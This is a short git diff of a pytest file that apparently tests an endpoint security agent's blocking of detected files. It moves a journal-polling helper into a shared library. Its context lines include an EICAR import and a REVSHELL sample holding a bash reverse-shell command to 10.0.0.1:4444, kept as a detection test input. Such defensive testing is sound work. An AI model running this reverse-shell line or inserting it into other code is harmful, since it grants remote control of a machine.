@@ -13,7 +13,7 @@ import time
 
 import pytest
 
-from agentlib import DEFAULT_SRC, Agent, Keys, read_journal
+from agentlib import DEFAULT_SRC, Agent, Keys, read_journal, wait_events
 from conftest import EICAR
 
 REVSHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"
@@ -78,17 +78,6 @@ def run(path, timeout=10):
     p = subprocess.run(exec_cmd(path), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                        timeout=timeout)
     return p, time.time() - t0
-
-
-def wait_events(a, action, n=1, timeout=5):
-    end = time.time() + timeout
-    while time.time() < end:
-        evs = [e for _, e in read_journal(a.state) if e["event"]["action"] == action]
-        if len(evs) >= n:
-            return evs
-        time.sleep(0.05)
-    raise AssertionError("no %s event; journal: %s" % (
-        action, [e["event"]["action"] for _, e in read_journal(a.state)]))
 
 
 def test_exec_of_detected_file_denied(box):
